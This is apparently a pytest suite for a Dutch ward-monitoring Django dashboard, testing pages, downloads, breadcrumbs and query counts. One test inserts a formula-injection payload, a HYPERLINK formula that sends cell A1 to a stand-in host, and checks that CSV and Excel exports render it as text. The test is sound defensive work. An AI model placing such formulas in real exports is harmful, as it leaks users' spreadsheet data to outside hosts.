"""Dashboard pages through the Django test client: content without JavaScript, CSV/JSON, htmx
fragments, safe defaults, and a fixed number of queries whatever the number of wards."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from monitoring.models import ConditionScore, Region, Role
from monitoring.services.data_version import data_version
from tests.conftest import member
from tests.test_dashboard_fixtures import demo_scores_ensure, synthetic_municipality

WARD = "WK051828"  # Centrum


@pytest.fixture
def scored(demo):
    demo_scores_ensure()
    return Region.objects.get(code="GM0518")


def _html(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def _summaries(html: str) -> list[str]:
    return re.findall(r'<p class="summary"[^>]*>\s*(.+?)\s*</p>', html, re.S)


# --- Pages without JavaScript: tables and sentences are in the HTML -------------------------


def test_municipality_page_has_map_scorecard_trends_and_their_words(scored, beleid_client):
    html = _html(beleid_client.get("/gemeente/GM0518/"))
    assert 'data-figure="figuur-kaart"' in html
    assert 'data-figure="figuur-trends"' in html
    assert "<caption>Scorekaart" in html
    assert 'scope="row"' in html and 'scope="col"' in html
    assert len(_summaries(html)) >= 3
    assert "44 wijken en 114 buurten" in html
    assert "/wijk/WK051801/" in html  # the table links to ward pages
    assert "<script>" not in html and "onclick" not in html  # nothing inline under CSP


def test_home_lists_the_demo_municipalities(scored, beleid_client):
    html = _html(beleid_client.get("/"))
    assert "/gemeente/GM0518/" in html and "/gemeente/GM0363/" in html


def test_ward_page_says_in_words_where_the_ward_stands(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/"))
    assert "Centrum" in html
    assert re.search(
        r"Sociaaleconomische zekerheid: \d+, (\d+ punten? (boven|onder)|gelijk aan) het gemiddelde van de wijken",
        html,
    )
    assert "Sociale cohesie: onvoldoende gegevens" in html
    for figure in ("radar", "trend"):
        assert f'data-figure="figuur-{figure}"' in html
    assert "<caption>Indicatoren van de vier condities van Wijk 28 Centrum" in html
    assert "Observaties" in html and "Initiatieven" in html
    assert f"/wijk/{WARD}/zekerheid/" in html


def test_ward_page_shows_the_rank_under_each_method_and_whether_it_depends_on_it(
    scored, beleid_client
):
    html = _html(beleid_client.get(f"/wijk/{WARD}/"))
    assert 'id="blok-rangen"' in html
    assert "<caption>Rang van Wijk 28 Centrum onder elke rekenmethode in 2019" in html
    for method in ("basisjaar-index", "z-score", "min–max", "percentielrang"):
        assert f">{method}</th>" in html
    assert re.search(r"\d+ van 4\d", html)
    csv_text = beleid_client.get(f"/wijk/{WARD}/?format=csv&tabel=rangen").content.decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(csv_text), delimiter=";"))
    assert rows[0][0].startswith("Rang van Wijk 28 Centrum")  # the title row
    assert rows[1][0] == "Conditie"
    assert "Sociale cohesie" in csv_text


def test_ward_page_loads_the_breakdown_of_its_scores_as_a_section_of_its_own(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/?periode=2019"))
    assert f'hx-get="/wijk/{WARD}/?periode=2019&amp;deel=opbouw"' in html
    # Without JavaScript the section links to each drill-down.
    assert f'href="/wijk/{WARD}/zekerheid/?periode=2019">Opbouw van sociaaleconomische' in html
    section = _html(beleid_client.get(f"/wijk/{WARD}/?periode=2019&deel=opbouw"))
    assert section.lstrip().startswith('<section class="chart-block" id="opbouw"')
    assert "hx-get" not in section
    assert section.count("<details") == 4
    assert "<caption>" in section


def test_buurt_page_works_too(scored, beleid_client):
    buurt = Region.objects.filter(parent__code=WARD, level="buurt").first()
    html = _html(beleid_client.get(f"/buurt/{buurt.code}/"))
    assert buurt.name in html


def test_drill_down_contributions_add_up_to_the_score(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/zekerheid/"))
    score = float(re.search(r'id="score" data-value="([\d.]+)"', html).group(1))
    parts = [float(v) for v in re.findall(r'class="num contribution" data-value="([-\d.]+)"', html)]
    assert len(parts) >= 2
    assert sum(parts) == pytest.approx(score, abs=1e-4)
    assert "Dekking" in html
    assert 'data-figure="figuur-opbouw"' in html


@pytest.mark.parametrize("method", ["zscore", "minmax", "percentiel", "landelijk"])
def test_drill_down_explains_the_alternative_methods_too(scored, beleid_client, method):
    html = _html(beleid_client.get(f"/wijk/{WARD}/zekerheid/?methode={method}&periode=2019"))
    score = float(re.search(r'id="score" data-value="([\d.]+)"', html).group(1))
    parts = [float(v) for v in re.findall(r'class="num contribution" data-value="([-\d.]+)"', html)]
    assert len(parts) >= 2
    assert sum(parts) == pytest.approx(score, abs=1e-4)


def test_drill_down_explains_the_index_of_the_method_shown(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/zekerheid/?methode=landelijk&periode=2019"))
    assert "Index: 100 is de landelijke waarde" in html
    assert "100 = landelijke waarde" in html  # the chart's axis
    html = _html(beleid_client.get(f"/wijk/{WARD}/zekerheid/?methode=percentiel&periode=2019"))
    assert "Index: de percentielrang binnen de periode" in html
    assert "in het basisjaar" not in html


def test_drill_down_of_a_condition_without_enough_data_says_so(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/cohesie/"))
    assert "onvoldoende gegevens" in html


def test_unknown_area_or_condition_gives_404(scored, beleid_client):
    assert beleid_client.get("/wijk/WK999999/").status_code == 404
    assert beleid_client.get(f"/wijk/{WARD}/geluk/").status_code == 404
    assert beleid_client.get("/indicator/bestaat_niet/").status_code == 404


def test_compare_shows_radar_trends_table_and_similar_wards(scored, beleid_client):
    html = _html(beleid_client.get("/vergelijk/?wijk=WK051828&wijk=WK051801&wijk=WK051838"))
    assert 'data-figure="figuur-radar"' in html and 'data-figure="figuur-trends"' in html
    assert "Indicatoren van de gekozen gebieden naast elkaar" in html
    assert "Vergelijkbare wijken" in html
    adds = re.findall(r'class="add" href="([^"]+)"', html)
    assert len(adds) == 5
    assert all(a.count("wijk=") == 4 for a in adds)
    # The picker works without JavaScript: a checkbox per ward in a GET form.
    assert html.count('type="checkbox" name="wijk"') == 44


def test_compare_without_wards_explains_what_to_do(scored, beleid_client):
    html = _html(beleid_client.get("/vergelijk/"))
    assert "Kies ten minste twee wijken" in html


def test_compare_caps_at_six_and_skips_unknown_codes(scored, beleid_client):
    codes = Region.objects.filter(municipality__code="GM0518", level="wijk").values_list(
        "code", flat=True
    )[:8]
    query = "&".join(f"wijk={c}" for c in codes) + "&wijk=WK000000&wijk=onzin"
    html = _html(beleid_client.get(f"/vergelijk/?{query}"))
    assert "hoogstens 6" in html or "Geen geldige" in html


def test_indicator_page(scored, beleid_client):
    html = _html(beleid_client.get("/indicator/sez_laag_inkomen/?gemeente=GM0518"))
    for figure in ("kaart", "verdeling", "trend"):
        assert f'data-figure="figuur-{figure}"' in html
    assert "Huishoudens met een laag inkomen" in html
    assert "'s-Gravenhage" in html or "&#x27;s-Gravenhage" in html


def test_indicator_changes_are_coloured_by_better_or_worse_for_their_direction(
    scored, beleid_client
):
    from monitoring.models import Indicator

    directions = {i.name_nl: i.direction for i in Indicator.objects.all()}
    data = json.loads(beleid_client.get(f"/wijk/{WARD}/?format=json&tabel=indicatoren").content)
    table = data["tables"]["indicatoren"]
    changes = {
        row[table["columns"].index("name")]: row[table["columns"].index("change")]
        for row in table["rows"]
    }
    html = _html(beleid_client.get(f"/wijk/{WARD}/"))
    section = html[html.index('id="blok-indicatoren"') :]
    checked = 0
    for name, change in changes.items():
        if change is None or round(change, 1) == 0:
            continue
        row = re.search(rf">{re.escape(name)}</a></th>(.+?)</tr>", section, re.S).group(1)
        better = (change > 0) == (directions[name] > 0)
        word = "verbeterd" if better else "verslechterd"
        arrow = "▲" if change > 0 else "▼"
        assert f'class="num {"better" if better else "worse"}" title="{word}">{arrow}' in row, name
        assert f'<span class="visually-hidden">{word}</span>' in row, name
        checked += 1
    assert checked >= 3
    # A context figure (not scored) rises or falls, neither better nor worse.
    context = html[html.index('id="blok-context"') :]
    assert "verbeterd" not in context and "verslechterd" not in context


# --- Navigation ----------------------------------------------------------------------------


def _crumbs(html: str) -> str:
    return re.search(r'<nav class="crumbs"[^>]*>(.+?)</nav>', html, re.S).group(1)


def test_a_ward_page_links_to_its_buurten(scored, beleid_client):
    html = _html(beleid_client.get(f"/wijk/{WARD}/"))
    buurten = Region.objects.filter(parent__code=WARD, level="buurt", last_year__isnull=True)
    assert buurten.exists()
    assert 'id="buurten"' in html
    for buurt in buurten:
        assert f'href="/buurt/{buurt.code}/"' in html
    # A buurt page has no buurten of its own, and its crumbs lead back to its wijk.
    buurt = _html(beleid_client.get(f"/buurt/{buurten[0].code}/"))
    assert 'id="buurten"' not in buurt
    assert f'href="/wijk/{WARD}/"' in _crumbs(buurt)


def test_the_indicator_list_links_every_active_indicator_by_condition(scored, beleid_client):
    from monitoring.models import Indicator

    html = _html(beleid_client.get("/indicatoren/?gemeente=GM0518"))
    active = Indicator.objects.filter(is_active=True)
    assert f"Indicatoren van de monitor, per conditie ({active.count()})" in html
    for indicator in active:
        assert f'href="/indicator/{indicator.code}/?gemeente=GM0518&amp;niveau=wijk"' in html
    assert "Sociale cohesie" in html and "Context (niet gescoord)" in html
    assert beleid_client.get("/indicatoren/?gemeente=GM9999").status_code == 404
    csv_download = beleid_client.get("/indicatoren/?gemeente=GM0518&format=csv&tabel=indicatoren")
    assert 'filename="GM0518-indicatoren-wijken.csv"' in csv_download["Content-Disposition"]
    # The breadcrumb "Indicatoren" on an indicator's page is a link to this list, and the
    # municipality page links to it too.
    indicator = _html(beleid_client.get("/indicator/sez_laag_inkomen/?gemeente=GM0518"))
    assert 'href="/indicatoren/?gemeente=GM0518">Indicatoren</a>' in _crumbs(indicator)
    assert 'href="/indicatoren/?gemeente=GM0518' in _html(beleid_client.get("/gemeente/GM0518/"))


def test_every_breadcrumb_is_a_link_and_the_last_marks_the_current_page(scored, beleid_client):
    pages = [
        f"/wijk/{WARD}/",
        f"/wijk/{WARD}/zekerheid/",
        "/vergelijk/?wijk=WK051828&wijk=WK051801",
        "/indicator/sez_laag_inkomen/?gemeente=GM0518",
        "/indicatoren/?gemeente=GM0518",
        "/verandering/?gemeente=GM0518",
    ]
    for url in pages:
        crumbs = _crumbs(_html(beleid_client.get(url)))
        items = [part.strip() for part in crumbs.split("›")]
        assert len(items) >= 2, url
        assert all(item.startswith("<a href=") for item in items), (url, items)
        assert 'aria-current="page"' in items[-1], url
        assert 'aria-current="page"' not in " ".join(items[:-1]), url


def test_the_compare_page_chooses_period_and_method_and_keeps_them(scored, beleid_client):
    url = "/vergelijk/?wijk=WK051828&wijk=WK051838&periode=2019&methode=percentiel"
    html = _html(beleid_client.get(url))
    assert '<select name="periode"' in html and '<select name="methode"' in html
    assert '<option value="2019" selected>' in html
    assert '<option value="percentiel" selected>' in html
    assert "Scores van de gekozen wijken in 2019" in html or "in 2019 gemiddeld" in html
    adds = re.findall(r'class="add" href="([^"]+)"', html)
    assert adds and all("periode=2019" in a and "methode=percentiel" in a for a in adds)
    removes = re.findall(r'class="remove" href="([^"]+)"', html)
    assert removes and all("periode=2019" in r and "methode=percentiel" in r for r in removes)
    # The method changes the scores the page shows.
    base = _html(beleid_client.get("/vergelijk/?wijk=WK051828&wijk=WK051838&periode=2019"))
    assert '<option value="basisjaar" selected>' in base
    assert _summaries(base) != _summaries(html)


def test_change_page(framework, client):
    municipality = synthetic_municipality(code="GM9912", wards=12)
    client.force_login(member(Role.POLICY_OFFICER, municipality, username="bea"))
    html = _html(client.get("/verandering/?van=2019&tot=2021&gemeente=GM9912"))
    assert 'data-figure="figuur-kaart"' in html
    assert "<caption>Verandering van sociaaleconomische zekerheid tussen 2019 en 2021" in html
    assert "gestegen in" in html, re.findall(r"<h2[^>]*>(.+?)</h2>", html)


def test_change_page_for_the_demo_names_the_periods_with_scores(scored, beleid_client):
    html = _html(beleid_client.get("/verandering/?gemeente=GM0518"))
    assert "Verandering tussen twee perioden" in html


# --- Query string: safe defaults, htmx fragment, CSV/JSON -----------------------------------


def test_bad_parameters_fall_back_to_defaults(scored, beleid_client):
    html = _html(
        beleid_client.get("/gemeente/GM0518/?periode=morgen&conditie=geluk&niveau=land&methode=x")
    )
    assert "Genegeerd" in html
    assert 'value="zekerheid" checked' in html


def test_htmx_request_gets_only_the_fragment(scored, beleid_client):
    full = _html(beleid_client.get("/gemeente/GM0518/?conditie=inclusie&periode=2019"))
    fragment = _html(
        beleid_client.get(
            "/gemeente/GM0518/?conditie=inclusie&periode=2019", headers={"HX-Request": "true"}
        )
    )
    assert "<html" in full and "<html" not in fragment
    assert 'data-figure="figuur-kaart"' in fragment
    assert "Sociale inclusie 2019" in fragment


def test_scorecard_sorts_by_a_condition(scored, beleid_client):
    html = _html(beleid_client.get("/gemeente/GM0518/?sorteer=zekerheid&periode=2021"))
    table = html.split("<caption>Scorekaart", 1)[1].split("</table>", 1)[0]
    rows = re.findall(r"<tr>(.+?)</tr>", table, re.S)[1:]
    values = []
    for row in rows:
        cells = re.findall(r'<td class="num">([\d.]+)', row)
        if len(cells) > 1:  # the first number is the ward's inhabitants, then the scores
            values.append(int(cells[1].replace(".", "")))
    assert values == sorted(values, reverse=True)


def test_every_table_downloads_as_csv_and_json(scored, beleid_client):
    pages = {
        "/gemeente/GM0518/": ["kaart", "scorekaart", "trends"],
        f"/wijk/{WARD}/": ["radar", "trend", "indicatoren", "context"],
        f"/wijk/{WARD}/zekerheid/": ["opbouw"],
        "/vergelijk/?wijk=WK051828&wijk=WK051801": ["radar", "trends", "indicatoren"],
        "/indicator/sez_laag_inkomen/?gemeente=GM0518": ["kaart", "verdeling", "trend"],
    }
    for url, tables in pages.items():
        joiner = "&" if "?" in url else "?"
        for table in tables:
            response = beleid_client.get(f"{url}{joiner}format=csv&tabel={table}")
            assert response.status_code == 200, (url, table)
            assert response["Content-Type"].startswith("text/csv")
            text = response.content.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text), delimiter=";"))
            assert len(rows) >= 3, (url, table)  # title, header, at least one row
            data = json.loads(beleid_client.get(f"{url}{joiner}format=json&tabel={table}").content)
            assert data["tables"][table]["rows"], (url, table)
    assert beleid_client.get("/gemeente/GM0518/?format=csv&tabel=bestaat-niet").status_code == 404


def test_a_table_downloads_as_an_excel_workbook_with_numbers_as_numbers(scored, beleid_client):
    import openpyxl

    response = beleid_client.get("/gemeente/GM0518/?periode=2019&format=xlsx&tabel=scorekaart")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        'filename="GM0518-scorekaart-wijken-2019-basisjaar.xlsx"' in response["Content-Disposition"]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].startswith("Scorekaart")
    assert rows[1][:4] == ("Naam", "Code", "Inwoners", "Zekerheid")
    numbers = [c for row in rows[2:] for c in row if isinstance(c, float | int)]
    assert len(numbers) > 40
    assert rows[-1][0].startswith("Bron: CBS")
    html = _html(beleid_client.get("/gemeente/GM0518/"))
    assert "format=xlsx&amp;tabel=scorekaart" in html


def test_downloads_name_the_method_period_and_level_in_file_name_and_title_row(
    scored, beleid_client
):
    import openpyxl

    def download(query: str):
        response = beleid_client.get(f"/gemeente/GM0518/?periode=2019&{query}&tabel=scorekaart")
        assert response.status_code == 200, query
        return response

    base_year = download("format=xlsx")
    percentile = download("methode=percentiel&format=xlsx")
    assert (
        'filename="GM0518-scorekaart-wijken-2019-basisjaar.xlsx"'
        in (base_year["Content-Disposition"])
    )
    assert (
        'filename="GM0518-scorekaart-wijken-2019-percentiel.xlsx"'
        in (percentile["Content-Disposition"])
    )
    titles = [
        openpyxl.load_workbook(io.BytesIO(r.content)).active["A1"].value
        for r in (base_year, percentile)
    ]
    assert titles[0].endswith(
        "wijken, 2019, methode: Index t.o.v. basisjaar (100 = gemiddelde, 10 = 1 sd)"
    )
    assert titles[1].endswith("wijken, 2019, methode: percentielrang binnen de periode")

    buurten = download("niveau=buurt&methode=zscore&format=csv")
    assert 'filename="GM0518-scorekaart-buurten-2019-zscore.csv"' in buurten["Content-Disposition"]
    title = next(csv.reader(io.StringIO(buurten.content.decode("utf-8-sig")), delimiter=";"))
    assert title[0].endswith("buurten, 2019, methode: z-score binnen de periode")

    ward = beleid_client.get(f"/wijk/{WARD}/?periode=2019&methode=minmax&format=csv&tabel=radar")
    assert f'filename="{WARD}-radar-wijk-2019-minmax.csv"' in ward["Content-Disposition"]
    # An indicator's values do not depend on a scoring method: its downloads name none.
    indicator = beleid_client.get(
        "/indicator/sez_laag_inkomen/?gemeente=GM0518&periode=2019&format=csv&tabel=kaart"
    )
    assert 'filename="sez_laag_inkomen-kaart-wijken-2019.csv"' in indicator["Content-Disposition"]


def test_a_region_named_like_a_formula_downloads_as_text_not_as_a_formula(scored, beleid_client):
    import openpyxl

    hostile = '=HYPERLINK("http://x?d="&A1,"Klik")'
    Region.objects.filter(code=WARD).update(name=hostile)
    url = "/gemeente/GM0518/?periode=2019&tabel=scorekaart&format="
    rows = list(
        csv.reader(
            io.StringIO(beleid_client.get(url + "csv").content.decode("utf-8-sig")), delimiter=";"
        )
    )
    assert ["'" + hostile] in [row[:1] for row in rows]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    sheet = openpyxl.load_workbook(io.BytesIO(beleid_client.get(url + "xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_excel_shows_counts_and_percentages_with_the_decimals_of_the_screen(scored, beleid_client):
    import openpyxl

    response = beleid_client.get(f"/wijk/{WARD}/?format=xlsx&tabel=context")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[2]]
    value, unit = header.index("Waarde"), header.index("Eenheid")
    formats: dict[str, set[str]] = {}
    for row in sheet.iter_rows(min_row=3):
        if isinstance(row[value].value, int | float):
            formats.setdefault(row[unit].value, set()).add(row[value].number_format)
    assert formats["aantal"] == {"#,##0"}  # 5490 shows as "5.490", not "5490,0"
    assert formats.get("%", {"#,##0.0"}) == {"#,##0.0"}


def test_empty_state_without_scores_says_what_to_do(demo, beleid_client):
    ConditionScore.objects.all().delete()
    html = _html(beleid_client.get("/gemeente/GM0518/"))
    assert "Nog geen scores: lees cijfers in via Beheer → Importeren" in html
    html = _html(beleid_client.get(f"/wijk/{WARD}/"))
    assert "Nog geen scores" in html


# --- A fixed number of queries, whatever the number of wards --------------------------------


def _count(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200, url
    return len(queries)


def _urls(municipality: Region) -> dict[str, str]:
    wards = list(
        Region.objects.filter(municipality=municipality, level="wijk")
        .order_by("code")
        .values_list("code", flat=True)
    )
    code = municipality.code
    buurt = (
        Region.objects.filter(municipality=municipality, level="buurt")
        .order_by("code")
        .values_list("code", flat=True)[2]
    )
    return {
        "buurt": f"/buurt/{buurt}/",
        "vergelijk-leeg": f"/vergelijk/?gemeente={code}",
        "gemeente": f"/gemeente/{code}/",
        "gemeente-htmx": f"/gemeente/{code}/?conditie=inclusie&periode=2020",
        "wijk": f"/wijk/{wards[3]}/",
        "wijk-opbouw": f"/wijk/{wards[3]}/?deel=opbouw",
        "opbouw": f"/wijk/{wards[3]}/zekerheid/",
        "vergelijk": f"/vergelijk/?wijk={wards[0]}&wijk={wards[1]}&wijk={wards[2]}",
        "indicator": f"/indicator/sez_laag_inkomen/?gemeente={code}",
        "indicatoren": f"/indicatoren/?gemeente={code}",
        "verandering": f"/verandering/?gemeente={code}&van=2019&tot=2021",
    }


# Every page of a logged-in user first reads the session and the user (2), then the access
# module reads the user's memberships with the published municipalities, in one query for the
# page cache's key, which the page's own checks reuse (access.permissions.access_key).
LOGIN_AND_ACCESS = 3
# A page not in the page cache yet: it reads the data version and looks for the page (one
# query), then stores it (monitoring/page_cache.py): the cull count, the key check, the write,
# each write with its audit-trail context (5).
PAGE_CACHE_MISS = 1 + 5
# A page in the cache: the session, the user, the access (2), the data version with the page.
PAGE_CACHE_HIT = LOGIN_AND_ACCESS + 1
EXPECTED_QUERIES = {
    name: LOGIN_AND_ACCESS + PAGE_CACHE_MISS + n
    for name, n in {
        "buurt": 7,  # and its ward's initiatives and their reach (initiatives section)
        "vergelijk-leeg": 2,
        "gemeente": 4 + 1,  # and the practice per ward (no observations: one query)
        "gemeente-htmx": 4 + 1,
        # region, scores, averages, indicators, ranks, values, buurten; initiatives, reach;
        # practice, signals
        "wijk": 9 + 2,
        "wijk-opbouw": 8,  # and the comparison group's regions and values
        "opbouw": 6,
        "vergelijk": 6,
        "indicator": 4,
        "indicatoren": 2,  # municipality, indicators
        # areas, scores; like for like: indicators, the group's regions, their values
        "verandering": 6,
    }.items()
}


def test_each_dashboard_uses_the_same_number_of_queries_for_10_and_100_wards(framework, client):
    small = synthetic_municipality(code="GM9910", wards=10)
    large = synthetic_municipality(code="GM9911", wards=100)
    client.force_login(member(Role.POLICY_OFFICER, small, large, username="bea"))
    data_version()  # stored once for the whole site; not part of any page's count
    counts_small = {name: _count(client, url) for name, url in _urls(small).items()}
    counts_large = {name: _count(client, url) for name, url in _urls(large).items()}
    assert counts_small == counts_large
    assert counts_small == EXPECTED_QUERIES
    # The second visit comes from the page cache, whatever the page.
    cached = {name: _count(client, url) for name, url in _urls(large).items()}
    assert cached == dict.fromkeys(EXPECTED_QUERIES, PAGE_CACHE_HIT)


def test_a_method_without_scores_says_to_pick_another(scored, beleid_client):
    # As in a municipality whose files lack the national row (NL00).
    ConditionScore.objects.filter(method="landelijk").delete()
    html = _html(beleid_client.get("/gemeente/GM0518/?methode=landelijk"))
    assert "Geen scores met de methode" in html
